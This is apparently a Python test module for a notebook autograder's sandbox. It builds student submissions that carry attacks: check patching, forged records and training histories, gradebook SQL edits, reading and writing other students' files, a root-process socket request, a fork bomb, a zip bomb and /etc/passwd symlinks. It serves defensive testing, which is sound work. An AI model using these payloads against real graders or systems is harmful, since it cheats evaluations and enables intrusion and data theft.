"""The attack suite's submissions: each is the honest wrong answer plus one attack.

The honest wrong answer to `course/source/attack_target` gets `scale`
wrong and does not really train, so it earns only `model_shapes` (1 of 4
points). An attack adds code at the top of the first answer cell
(`early`, to change how every later cell runs), in the last answer cell
(`late`, after all the graded work, so that breaking the kernel there
costs nothing honest), or changes the notebook or the file itself
(`transform`). Each must score what the honest wrong answer scores
(`SAME`), or, where the attack destroys its own work before anything is
recorded, less and never more (`NOT_ABOVE`), and change nothing outside
its own autograded folder.
"""

import dataclasses
import json
import os

import nbformat

SAME = "same"
NOT_ABOVE = "not above"
ATTACKER_CANARY = "attacker-was-here-31d7"

HONEST_WRONG = {
    "scale": "def scale(values, factor):\n    return [value + factor for value in values]",
    "build_model": (
        "def build_model():\n"
        "    return keras.Sequential([keras.Input(shape=(28, 28)), keras.layers.Flatten(),\n"
        "                             keras.layers.Dense(10, activation='softmax')])"
    ),
    "train": (
        "def train(model, images, labels):\n"
        "    model.compile(optimizer='adam', loss='sparse_categorical_crossentropy', metrics=['accuracy'])\n"
        "    return model.fit(images[:1], labels[:1], epochs=1, verbose=0)"
    ),
    "scratch_space": "pass",
}


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attack on grading.

    Attributes:
        name: Used as the student id.
        description: What it tries.
        early: Code run before the answers (top of the first answer cell).
        late: Code run after all graded cells (the last answer cell).
        transform: A function `(notebook, context) -> notebook or bytes`
            applied to the finished submission.
        expected: `SAME` or `NOT_ABOVE` the honest wrong answer's score.
        file_name: The submitted file's name, if not the assignment's.
        nbgrader_reports_error: Whether `nbgrader autograde` ends with an
            error for it (after recording its scores).
        runs_out_the_notebook: Whether it is meant to use up the whole
            notebook's time limit rather than one cell's.
    """

    name: str
    description: str
    early: str = ""
    late: str = ""
    transform: object = None
    expected: str = SAME
    file_name: str = None
    nbgrader_reports_error: bool = False
    runs_out_the_notebook: bool = False


def _with_answers(notebook, answers):
    notebook = nbformat.from_dict(json.loads(json.dumps(notebook)))
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = answers[grade_id]
    return notebook


def build(attack, release_notebook, context):
    """Returns the submission for `attack`: a NotebookNode, or bytes for a broken file.

    Args:
        attack: The `Attack`.
        release_notebook: The student's notebook as released.
        context: Paths and ports the attack code may aim at, substituted
            into it where it says `{course}`, `{witness}`, `{port}` or `{canary}`.
    """
    answers = dict(HONEST_WRONG)
    if attack.early:
        answers["scale"] = _aimed(attack.early, context) + "\n\n" + answers["scale"]
    if attack.late:
        answers["scratch_space"] = _aimed(attack.late, context)
    notebook = _with_answers(release_notebook, answers)
    return attack.transform(notebook, context) if attack.transform else notebook


def _aimed(code, context):
    for key, value in context.items():
        code = code.replace("{" + key + "}", str(value))
    return code


def _cell(notebook, grade_id):
    return next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _edit_grade_cell(notebook, context):
    _cell(notebook, "scale_cases").source = "# all good\npass"
    _cell(notebook, "trained_accuracy").source = "print('accuracy: 100%')"
    return notebook


def _delete_grade_cells(notebook, context):
    notebook.cells = [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") not in ("scale_cases", "trained_accuracy")]
    return notebook


def _duplicate_grade_cell(notebook, context):
    cell = _cell(notebook, "model_shapes")
    index = notebook.cells.index(cell)
    for number in (1, 2):
        copy = nbformat.from_dict(json.loads(json.dumps(cell)))
        copy["id"] = f"copy-{number}"  # JupyterLab gives a copied cell a new id
        notebook.cells.insert(index, copy)
    return notebook


def _retype_grade_cell(notebook, context):
    for grade_id in ("scale_cases", "trained_accuracy"):
        cell = _cell(notebook, grade_id)
        index = notebook.cells.index(cell)
        notebook.cells[index] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
    return notebook


def _edit_points(notebook, context):
    _cell(notebook, "model_shapes").metadata.nbgrader["points"] = 100
    trained = _cell(notebook, "trained_accuracy").metadata.nbgrader
    trained["grade"] = False
    scale = _cell(notebook, "scale_cases").metadata.nbgrader
    scale["grade_id"] = "model_shapes_bonus"
    return notebook


def _malformed_metadata(notebook, context):
    scale, shapes, trained = (_cell(notebook, grade_id) for grade_id in ("scale_cases", "model_shapes", "trained_accuracy"))
    scale.metadata["nbgrader"] = "grade_id: scale_cases, points: 100"
    shapes.metadata["nbgrader"] = ["model_shapes", 100]
    trained.metadata.nbgrader["grade_id"] = 42
    return notebook


def _invalid_json(notebook, context):
    return nbformat.writes(notebook)[:-200].encode()


def _empty_file(notebook, context):
    return b""


def _old_nbformat(notebook, context):
    return nbformat.writes(nbformat.convert(notebook, 3)).encode()


WRITES_EVERYWHERE_TARGETS = {
    "course_package": "{course_package}/{canary}.py",
    "autograder_package": "{autograder_package}/{canary}.py",
    "site_packages": "{site_packages}/{canary}.pth",
    "venv_bin": "{venv}/bin/{canary}",
    "keras_cache": "{keras_cache}/{canary}",
    "host_keras_home": "{host_keras}/{canary}",
    "kernel_keras_datasets": "~/.keras/datasets/fashion-mnist/{canary}",
    "host_tmp": "/tmp/{canary}-tmp",
    "host_shm": "/dev/shm/{canary}-shm",
}
# Existing files opened for writing but never written, so that a success
# shows without damaging the grader's data or packages.
WRITES_EVERYWHERE_EXISTING = {
    "course_package_file": "{course_package}/data.py",
    "autograder_package_file": "{autograder_package}/judging.py",
    "site_packages_pth": "{site_packages}/distutils-precedence.pth",
    "keras_cache_file": "{keras_cache}/train-labels-idx1-ubyte.gz",
    "kernel_keras_dataset_file": "~/.keras/datasets/fashion-mnist/train-labels-idx1-ubyte.gz",
}
# Inside the sandbox /tmp and /dev/shm are the kernel's own: writing there
# works, and must not reach the host's.
WRITES_ALLOWED_INSIDE = ("host_tmp", "host_shm")
WRITES_EVERYWHERE = f"""import os
for _name, _path in {WRITES_EVERYWHERE_TARGETS!r}.items():
    _path = os.path.expanduser(_path)
    try:
        with open(_path, 'x') as _file:
            _file.write('# {{canary}}\\n')
        print('WROTE', _name, _path)
    except OSError as error:
        print('REFUSED', _name, _path, error)
for _name, _path in {WRITES_EVERYWHERE_EXISTING!r}.items():
    _path = os.path.expanduser(_path)
    try:
        open(_path, 'r+b').close()
        print('WROTE', _name, _path, '(opened for writing)')
    except OSError as error:
        print('REFUSED', _name, _path, error)
"""


# A valid zip of one `arr_0.npy` member: a float32 array of 2 GiB of zeros,
# deflated in 2 MB (one compressed block of 16 MiB of zeros, repeated after
# full flushes), in place of the accuracy cell's recorded weights.
ZIP_BOMB = """import io, os, struct, zlib
from pathlib import Path
from numpy.lib import format as _npy
_path = Path(os.environ['AUTOGRADER_RECORDS_DIR']) / 'trained_accuracy' / 'model.weights.npz'
_count = 2 * 1024**3 // 4
_header = io.BytesIO()
_npy.write_array_header_1_0(_header, {'descr': '<f4', 'fortran_order': False, 'shape': (_count,)})
_header = _header.getvalue()
_chunk = bytes(2**24)
_repeats = _count * 4 // len(_chunk)
_deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
_head = _deflate.compress(_header) + _deflate.flush(zlib.Z_FULL_FLUSH)
_block = _deflate.compress(_chunk) + _deflate.flush(zlib.Z_FULL_FLUSH)
_tail = _deflate.flush()
_crc = zlib.crc32(_header)
for _ in range(_repeats):
    _crc = zlib.crc32(_chunk, _crc)
_name = b'arr_0.npy'
_packed = len(_head) + len(_block) * _repeats + len(_tail)
_size = len(_header) + len(_chunk) * _repeats
_local = struct.pack('<IHHHHHIIIHH', 0x04034B50, 20, 0, 8, 0, 0, _crc, _packed, _size, len(_name), 0) + _name
_central = struct.pack('<IHHHHHHIIIHHHHHII', 0x02014B50, 20, 20, 0, 8, 0, 0, _crc, _packed, _size, len(_name), 0, 0, 0, 0, 0, 0) + _name
_end = struct.pack('<IHHHHIIH', 0x06054B50, 0, 0, 1, 1, len(_central), len(_local) + _packed, 0)
with open(_path, 'wb') as _file:
    _file.write(_local + _head + _block * _repeats + _tail + _central + _end)
print('bomb of', _size, 'bytes in', _path.stat().st_size)
"""


ATTACKS = [
    Attack("input_transformer_drops_checks", "an IPython input transformer deletes every `require(...)` line",
           early=("def _drop_checks(lines):\n"
                  "    return [line for line in lines if not line.lstrip().startswith('require(')]\n"
                  "get_ipython().input_transformers_cleanup.append(_drop_checks)")),
    Attack("input_transformer_blanks_cells", "an input transformer turns every later cell into nothing",
           early="get_ipython().input_transformers_cleanup.append(lambda lines: [])", expected=NOT_ABOVE),
    Attack("post_run_cell_hides_errors", "a post_run_cell hook clears each cell's error",
           early=("def _forget_errors(result):\n    result.error_in_exec = None\n"
                  "get_ipython().events.register('post_run_cell', _forget_errors)")),
    Attack("pre_run_cell_patches_checks", "a pre_run_cell hook makes every check pass before each cell",
           early=("import autograder.checks, autograder.results\n"
                  "def _all_pass(*args, **kwargs):\n"
                  "    return autograder.results.CheckResult('patched', True, 'ok')\n"
                  "def _patch(info):\n"
                  "    for name in ('function_cases', 'input_shape', 'output_shape', 'minimum_accuracy', 'finite_loss'):\n"
                  "        setattr(autograder.checks, name, _all_pass)\n"
                  "get_ipython().events.register('pre_run_cell', _patch)")),
    Attack("custom_exception_handler", "set_custom_exc swallows every exception",
           early="get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)"),
    Attack("showtraceback_patched", "showtraceback patched to show nothing",
           early="get_ipython().showtraceback = lambda *args, **kwargs: None\nget_ipython()._showtraceback = lambda *args, **kwargs: None"),
    Attack("numpy_patched", "NumPy's comparisons patched to always agree",
           early="np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True"),
    Attack("math_patched", "math.isclose patched to always agree",
           early="import math\nmath.isclose = lambda *a, **k: True"),
    Attack("keras_evaluate_patched", "keras.Model.evaluate and predict patched to report a perfect model",
           early=("import keras\n"
                  "keras.Model.evaluate = lambda self, *a, **k: [0.0, 1.0]\n"
                  "_predict = keras.Model.predict\n"
                  "def _perfect(self, x, *a, **k):\n"
                  "    from course import data as _data\n"
                  "    labels = _data.load_splits().y_val\n"
                  "    return np.eye(10)[labels[: len(x)]] if len(x) == len(labels) else _predict(self, x, *a, **k)\n"
                  "keras.Model.predict = _perfect")),
    Attack("autograder_patched", "the autograder's own checks and require replaced by ones that always pass",
           early=("import autograder, autograder.checks\n"
                  "from autograder.results import CheckResult\n"
                  "for _name in dir(autograder.checks):\n"
                  "    if not _name.startswith('_') and callable(getattr(autograder.checks, _name)):\n"
                  "        setattr(autograder.checks, _name, lambda *a, **k: CheckResult('patched', True, 'ok'))\n"
                  "autograder.require = lambda *results: None")),
    Attack("records_forged", "the recording functions replaced by ones that write made-up outcomes",
           early=("import json, os\nfrom autograder import codec, record_format, records\n"
                  "def _forged_calls(grade_id, function, key='calls'):\n"
                  "    folder = record_format.records_dir() / grade_id\n"
                  "    folder.mkdir(parents=True, exist_ok=True)\n"
                  "    outcomes = [{'value': codec.encode([3, 6])}] * 4\n"
                  "    (folder / f'{key}.json').write_text(json.dumps({'kind': 'calls', 'callable': True, 'outcomes': outcomes}))\n"
                  "records.calls = _forged_calls")),
    Attack("forged_history", "train() returns a made-up History claiming 99% accuracy instead of training",
           transform=lambda notebook, context: _replace_answer(notebook, "train", (
               "def train(model, images, labels):\n"
               "    history = keras.callbacks.History()\n"
               "    history.history = {'loss': [0.01, 0.01], 'accuracy': [0.99, 0.99]}\n"
               "    history.epoch, history.params, history.model = [0, 1], {'epochs': 2}, model\n"
               "    return history"))),
    Attack("always_equal_object", "scale() returns an object whose == is always True",
           transform=lambda notebook, context: _replace_answer(notebook, "scale", "class _AlwaysEqual(list):\n    def __eq__(self, other):\n        return True\n\ndef scale(values, factor):\n    return _AlwaysEqual()")),
    Attack("reads_course_files", "reads source/, grading.py, gradebook.db and other submissions and prints them",
           late=("import glob, os\n"
                 "for _pattern in ('{course}/source/*/*', '{course}/gradebook.db', '{course}/submitted/*/*/*', '{course}/autograded/*/*/*', '{course}/release/*/*'):\n"
                 "    for _path in glob.glob(_pattern):\n"
                 "        try:\n"
                 "            print('READ', _path, open(_path, 'rb').read()[:100000])\n"
                 "        except OSError as error:\n"
                 "            print('REFUSED', _path, error)\n"
                 "print('LISTDIR', sorted(os.listdir('{course}')) if os.path.isdir('{course}') else None)")),
    Attack("writes_gradebook", "writes to the gradebook: raises every score with SQL, then appends garbage",
           late=("import sqlite3\n"
                  "try:\n"
                  "    _db = sqlite3.connect('{course}/gradebook.db')\n"
                  "    _db.execute('update grade set manual_score = 100, auto_score = 100')\n"
                  "    _db.commit()\n"
                  "except Exception as error:\n"
                  "    print('gradebook', error)\n"
                  "try:\n"
                  "    open('{course}/gradebook.db', 'ab').write(b'{canary}')\n"
                  "except OSError as error:\n"
                  "    print('gradebook', error)")),
    Attack("writes_other_students", "writes into another student's submitted and autograded folders, and into source/ and release/",
           late=("import glob, os\n"
                  "for _pattern in ('{course}/submitted/{witness}/*/*', '{course}/autograded/{witness}/*/*', '{course}/source/*/*', '{course}/release/*/*'):\n"
                  "    for _path in glob.glob(_pattern) or [_pattern.replace('*', 'x')]:\n"
                  "        try:\n"
                  "            with open(_path, 'a') as _file:\n"
                  "                _file.write('{canary}')\n"
                  "        except OSError as error:\n"
                  "            print('cannot write', _path, error)")),
    Attack("network", "opens a connection to a server the test runs on the host's loopback",
           late=("import socket\n"
                  "try:\n"
                  "    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'{canary}')\n"
                  "    print('connected')\n"
                  "except OSError as error:\n"
                  "    print('no network:', error)")),
    Attack("asks_the_zygote_for_a_root_process", "looks for the prepared kernels' zygote socket (in /dev/shm, /tmp, /run) "
           "and on it and every socket it inherited sends a request for a root process outside any sandbox that would "
           "write into the course's source/",
           late=("import glob, json, os, socket\n"
                 "request = {'module': 'zipfile', 'arguments': ['-c', '{course}/source/{canary}.zip', '/etc/hostname'], "
                 "'environment': {}, 'chdir': '/', 'uid': 0, 'gid': 0, 'rlimits': [], 'cgroup_procs': [], 'sandbox_pid': 1}\n"
                 "found = glob.glob('/dev/shm/**/*.socket', recursive=True) + glob.glob('/tmp/**/*.socket', recursive=True) "
                 "+ glob.glob('/run/**/*.socket', recursive=True)\n"
                 "print('sockets found:', found)\n"
                 "targets = []\n"
                 "for path in found:\n"
                 "    try:\n"
                 "        connection = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)\n"
                 "        connection.connect(path)\n"
                 "        targets.append(connection)\n"
                 "    except OSError as error:\n"
                 "        print('refused:', path, error)\n"
                 "for descriptor in range(3, 256):\n"
                 "    try:\n"
                 "        targets.append(socket.socket(fileno=os.dup(descriptor)))\n"
                 "    except OSError:\n"
                 "        pass\n"
                 "for target in targets:\n"
                 "    try:\n"
                 "        socket.send_fds(target, [json.dumps(request).encode()], [0, 1, 2])\n"
                 "        print('sent on', target)\n"
                 "    except OSError as error:\n"
                 "        print('could not send:', error)")),
    Attack("kills_its_sandbox_from_inside", "kills every other process it can see (the sandbox's placeholder and "
           "init among them), then goes on", expected=NOT_ABOVE,
           late=("import os, signal\n"
                 "for name in os.listdir('/proc'):\n"
                 "    if name.isdigit() and int(name) != os.getpid():\n"
                 "        try:\n"
                 "            os.kill(int(name), signal.SIGKILL)\n"
                 "        except OSError as error:\n"
                 "            print(name, error)")),
    Attack("sys_exit", "calls sys.exit()", late="import sys\nsys.exit(3)"),
    Attack("os_exit", "calls os._exit(0), ending the kernel", late="import os\nos._exit(0)"),
    Attack("os_exit_first", "calls os._exit(0) before any answer is defined", early="import os\nos._exit(0)", expected=NOT_ABOVE),
    Attack("segfault", "dereferences a null pointer with ctypes", late="import ctypes\nctypes.string_at(0)"),
    Attack("allocates_100_gb", "allocates 100 GB, a gigabyte at a time",
           late="_blocks = []\nwhile len(_blocks) < 100:\n    _blocks.append(np.ones(10**9 // 8))"),
    Attack("fork_bomb", "forks until the machine runs out of processes",
           late="import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
    Attack("writes_10_gb", "writes a 10 GB file, a megabyte at a time, with SIGXFSZ ignored so that the file-size cap "
           "shows as an error (every folder it may write is memory-backed, but the file-size cap is far below the "
           "memory cap, so it is the one that stops it)",
           late=("import os, signal\n"
                 "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
                 "_written = 0\n"
                 "try:\n"
                 "    with open('big.bin', 'wb', buffering=0) as _file:\n"
                 "        for _ in range(10_000):\n"
                 "            _written += _file.write(bytes(10**6))\n"
                 "    print('WROTE', _written, 'bytes')\n"
                 "except OSError as error:\n"
                 "    print('STOPPED at', _written, 'bytes:', error)\n"
                 "finally:\n"
                 "    if os.path.exists('big.bin'):\n"
                 "        os.remove('big.bin')")),
    Attack("prints_100_mb", "prints 100 MB", late="print('x' * 100_000_000)"),
    Attack("ignores_interrupts", "an infinite loop with SIGINT ignored",
           late="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
    # 25 s, under the 60 s cell cap, before each of the 8 code cells after it: far past the 120 s notebook cap.
    # (15 s came to just under it on a fast machine, and nothing was stopped.)
    Attack("slow_in_every_cell", "a pre_run_cell hook sleeps 25 s before every cell, each under the cell limit",
           early="import time\nget_ipython().events.register('pre_run_cell', lambda info: time.sleep(25))",
           expected=NOT_ABOVE, runs_out_the_notebook=True),
    Attack("edited_grade_cells", "replaces two grade cells' tests with `pass` and a print", transform=_edit_grade_cell),
    Attack("deleted_grade_cells", "deletes two grade cells", transform=_delete_grade_cells),
    Attack("duplicated_grade_cell", "duplicates a grade cell twice", transform=_duplicate_grade_cell),
    Attack("retyped_grade_cells", "turns two grade cells into markdown", transform=_retype_grade_cell),
    Attack("edited_cell_metadata", "sets a cell's points to 100, un-grades another and renames a third", transform=_edit_points),
    Attack("malformed_metadata", "gives grade cells nbgrader metadata of the wrong types (a string, a list, a numeric grade id)",
           transform=_malformed_metadata),
    Attack("renamed_notebook", "submits the notebook under another name", file_name="my_submission.ipynb",
           expected=NOT_ABOVE, nbgrader_reports_error=True),
    Attack("invalid_json", "submits a truncated file that is not valid JSON", transform=_invalid_json, expected=NOT_ABOVE),
    Attack("empty_file", "submits an empty file", transform=_empty_file, expected=NOT_ABOVE),
    Attack("old_nbformat", "submits the notebook in nbformat 3", transform=_old_nbformat),
    # Defence: the sandbox shows the course packages, the virtualenv and the
    # grader's Fashion-MNIST read-only (or not at all), and gives the kernel
    # a /tmp and /dev/shm of its own; nothing reaches the host's.
    Attack("writes_everywhere", "tries to create a file in the course packages, the virtualenv's site-packages (a .pth "
           "would run in every later Python) and bin, the grader's Fashion-MNIST cache, ~/.keras (the host's and its "
           "own dataset folder), the host's /tmp and /dev/shm, and to open the data and package files for writing",
           late=WRITES_EVERYWHERE),
    # Defence: the grader rebuilds every output from its known fields
    # (`autograder.plugins.output_limits`) before nbgrader's preprocessors see it.
    Attack("stream_text_list", "sends, through the kernel's own session, a stream whose text is a list of strings and "
           "display data whose values are lists (valid nbformat, which nbgrader's LimitOutput crashes on)",
           late=("import sys\n"
                 "sys.stdout.flush()\n"
                 "_publisher = get_ipython().display_pub\n"
                 "def _send(kind, content):\n"
                 "    _publisher.session.send(_publisher.pub_socket, kind, content, parent=_publisher.parent_header,\n"
                 "                            ident=_publisher.topic)\n"
                 "_send('stream', {'name': 'stdout', 'text': ['a\\n', 'b\\n']})\n"
                 "_send('display_data', {'data': {'text/plain': ['line 1\\n', 'line 2\\n'], 'text/html': ['<b>', 'bold', '</b>']},\n"
                 "                       'metadata': {}, 'transient': {}})")),
    # Defence: caps on outputs per cell and per notebook (`output_limits`).
    Attack("many_large_outputs", "displays 2,000 outputs of 50 KB each, text/plain and base64 image/png in turn (100 MB)",
           late=("import base64\n"
                 "from IPython.display import display\n"
                 "_image = base64.b64encode(bytes(37_500)).decode()\n"
                 "for _number in range(2_000):\n"
                 "    display({'image/png': _image} if _number % 2 else {'text/plain': 'x' * 50_000}, raw=True)")),
    # Defence: `ApplyVerdicts` cuts every output line that repeats a line of
    # hidden test code, wherever it is printed.
    Attack("prints_hidden_source", "an input transformer prints every later cell's source as it runs (as is, line by "
           "line with a prefix, and as HTML), and stashes it to print again in the last answer cell",
           early=("from IPython.display import HTML, display\n"
                  "_sources = []\n"
                  "def _leak(lines):\n"
                  "    _sources.append(''.join(lines))\n"
                  "    print(''.join(lines))\n"
                  "    print('\\n'.join('>>> ' + line.rstrip() for line in lines))\n"
                  "    display(HTML('<pre>' + ''.join(lines) + '</pre>'))\n"
                  "    return lines\n"
                  "get_ipython().input_transformers_cleanup.append(_leak)"),
           late="print('\\n'.join(_sources))"),
    # Defence: the judge checks the recorded architecture (its output shape,
    # its size) before it predicts anything.
    Attack("huge_prediction_model", "after the real records, records for trained_accuracy a model whose output is "
           "Dense(12544), so that predicting the grader's images would take gigabytes",
           late=("from autograder import records\n"
                 "_huge = keras.Sequential([keras.Input(shape=(28, 28)), keras.layers.Flatten(), keras.layers.Dense(12544)])\n"
                 "print(records.model('trained_accuracy', 'model', _huge))"),
           expected=NOT_ABOVE),
    # Defence: the rebuild checks each weight member's inflated size (and the
    # shape in its header) against the architecture before reading it.
    Attack("inflating_weights", "after recording, replaces the trained_accuracy model's .weights.npz with a zip bomb: "
           "a 2 MB file whose one float32 member inflates to 2 GiB of zeros",
           late=ZIP_BOMB),
    # Defence: the judge refuses a record that is a link (it opens records
    # with O_NOFOLLOW, or checks they are plain files in a plain folder).
    Attack("symlinked_records", "replaces the trained_accuracy model's record with a link to /etc/passwd and the "
           "scale_cases folder with a link to the course's source folder (absent from the sandbox, present where "
           "the judge runs)",
           late=("import os, shutil\n"
                 "from pathlib import Path\n"
                 "_records = Path(os.environ['AUTOGRADER_RECORDS_DIR'])\n"
                 "(_records / 'trained_accuracy' / 'model.json').unlink()\n"
                 "os.symlink('/etc/passwd', _records / 'trained_accuracy' / 'model.json')\n"
                 "shutil.rmtree(_records / 'scale_cases', ignore_errors=True)\n"
                 "os.symlink('{course}/source/attack_target', _records / 'scale_cases')\n"
                 "print(sorted(os.listdir(_records)))"),
           expected=NOT_ABOVE),
    # Defence: the inputs folder is the judge's, read-only to the kernel
    # (`AUTOGRADER_INPUTS_DIR`), and the judge writes new files only, never
    # through a link; its own /tmp is not the host's.
    Attack("symlinked_inputs", "tries to replace the hidden inputs folder (the old $AUTOGRADER_RECORDS_DIR/inputs and "
           "$AUTOGRADER_INPUTS_DIR) with a link to a folder in /tmp, for the judge to write through",
           early=("import os, shutil\n"
                  "from pathlib import Path\n"
                  "for _folder in {os.environ.get('AUTOGRADER_INPUTS_DIR'), os.path.join(os.environ.get('AUTOGRADER_RECORDS_DIR', '/nonexistent'), 'inputs')}:\n"
                  "    if not _folder:\n"
                  "        continue\n"
                  "    try:\n"
                  "        shutil.rmtree(_folder, ignore_errors=True)\n"
                  "        if os.path.isdir(_folder):\n"
                  "            os.rename(_folder, _folder + '-moved')\n"
                  "        os.symlink('/tmp/{canary}-inputs', _folder)\n"
                  "        print('LINKED', _folder)\n"
                  "    except OSError as error:\n"
                  "        print('REFUSED', _folder, error)"),
           expected=NOT_ABOVE),
    # Defence: the judge measures on held-out images the kernel never holds
    # and refuses a model larger than the exercise needs
    # (`checks.maximum_parameter_count`), so a lookup table earns nothing.
    Attack("memorizes_validation", "build_model() returns Flatten, Dense(12000, softmax), Dense(10) and train() sets "
           "its weights to a nearest-neighbour lookup of the validation images (kernel: images; bias: -|image|^2/2; "
           "then one-hot labels), never trained on them",
           transform=lambda notebook, context: _replace_answer(_replace_answer(notebook, "build_model", (
               "def build_model():\n"
               "    return keras.Sequential([keras.Input(shape=(28, 28)), keras.layers.Flatten(),\n"
               "                             keras.layers.Dense(12000, activation='softmax'), keras.layers.Dense(10)])")),
               "train", (
               "def train(model, images, labels):\n"
               "    model.compile(optimizer='adam', loss='sparse_categorical_crossentropy', metrics=['accuracy'])\n"
               "    history = model.fit(images[:1], labels[:1], epochs=1, verbose=0)\n"
               "    splits = data.load_splits()\n"
               "    stored = splits.x_val.reshape(len(splits.x_val), -1).astype('float32')\n"
               "    sharpness = 100.0\n"
               "    model.set_weights([sharpness * stored.T, -sharpness * (stored**2).sum(axis=1) / 2,\n"
               "                       np.eye(10, dtype='float32')[splits.y_val], np.zeros(10, 'float32')])\n"
               "    return history"))),
    # forged_history_padded is not here: attack_target records no History
    # (its accuracy cell only prints one), so there is nothing for a padded
    # History to fool; chapter 01's judge cross-checks Histories.
]



def _selected(attacks):
    """The attacks named in the `ATTACKS` environment variable (comma-separated), or all of them."""
    names = [name.strip() for name in os.environ.get("ATTACKS", "").split(",") if name.strip()]
    if not names:
        return attacks
    unknown = sorted(set(names) - {attack.name for attack in attacks})
    if unknown:
        raise ValueError(f"`ATTACKS` names attacks of the catalog, comma-separated. Received unknown names: {unknown}")
    return [attack for attack in attacks if attack.name in names]


ALL_ATTACKS = ATTACKS
ATTACKS = _selected(ALL_ATTACKS)


def _replace_answer(notebook, grade_id, source):
    _cell(notebook, grade_id).source = source
    return notebook
